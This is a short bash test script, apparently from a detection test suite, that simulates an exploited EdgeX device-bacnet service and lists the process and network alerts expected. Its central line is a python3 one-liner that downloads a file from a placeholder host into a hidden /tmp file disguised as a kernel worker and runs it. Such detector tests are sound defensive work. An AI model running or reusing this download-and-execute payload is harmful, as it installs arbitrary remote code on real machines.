#!/bin/bash
# Through a hole in device-bacnet, python3 downloads a program into /tmp and runs it.
# expect: detector=process.novel|process.origin entity=edgex-device-bacnet
# also: detector=network.client entity=edgex-device-bacnet peer=198.51.100.77
# also: detector=network.destination entity=edgex-device-bacnet peer=198.51.100.80
# also: detector=process.novel entity=edgex-device-bacnet
# also: detector=network.destination entity=edgex-device-bacnet peer=198.51.100.53
set -euo pipefail
source "$(dirname "$0")/common.sh"
exploit_exec 49986 "python3 -c 'import os, urllib.request as u
u.urlretrieve(\"http://updates.example.net/kworker\", \"/tmp/.kworker\")
os.chmod(\"/tmp/.kworker\", 0o755)
os.spawnl(os.P_WAIT, \"/tmp/.kworker\", \"kworker\")'"
sleep 1
